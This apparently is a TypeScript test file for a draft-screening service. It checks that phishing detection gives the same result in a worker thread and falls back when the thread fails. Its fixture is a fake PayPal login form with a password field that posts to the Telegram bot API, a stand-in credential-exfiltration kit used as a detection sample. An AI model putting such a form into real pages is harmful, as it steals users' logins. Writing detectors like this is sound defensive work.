import { expect, it } from "@effect/vitest"
import { draftLimits } from "@surename/core/operations/drafts/limits"
import { Screening } from "@surename/core/operations/drafts/ports/screening"
import * as Effect from "effect/Effect"
import { screeningInThread, screeningRules } from "./index.ts"

const kit =
  '<title>PayPal</title><h1>Log in to PayPal</h1><form action="https://api.telegram.org/bot1/sendMessage"><input type="password">'
const draftOf = (chars: number) => {
  const bytes = Buffer.from(kit + "<p>more words </p>".repeat(chars / 18))
  return [{ path: "index.html", bytes, contentType: "text/html" }]
}
const sizes = [100, draftLimits.screenedAtOnceBytes + 1_000]
const screenAll = Screening.use(({ screen }) => Effect.forEach(sizes, (chars) => screen(draftOf(chars))))

it.live("gives the same result in a thread for long drafts", () =>
  Effect.gen(function* () {
    const here = yield* Effect.provide(screenAll, screeningRules)
    expect(here.map(({ flagged }) => flagged)).toEqual([true, true])
    expect(yield* Effect.provide(screenAll, screeningInThread())).toEqual(here)
  }),
)

it.live("screens here when the thread breaks", () =>
  Effect.gen(function* () {
    const nowhere = screeningInThread(new URL("./no-such-file.ts", import.meta.url))
    expect(yield* Effect.provide(screenAll, nowhere)).toEqual(yield* Effect.provide(screenAll, screeningRules))
  }),
)
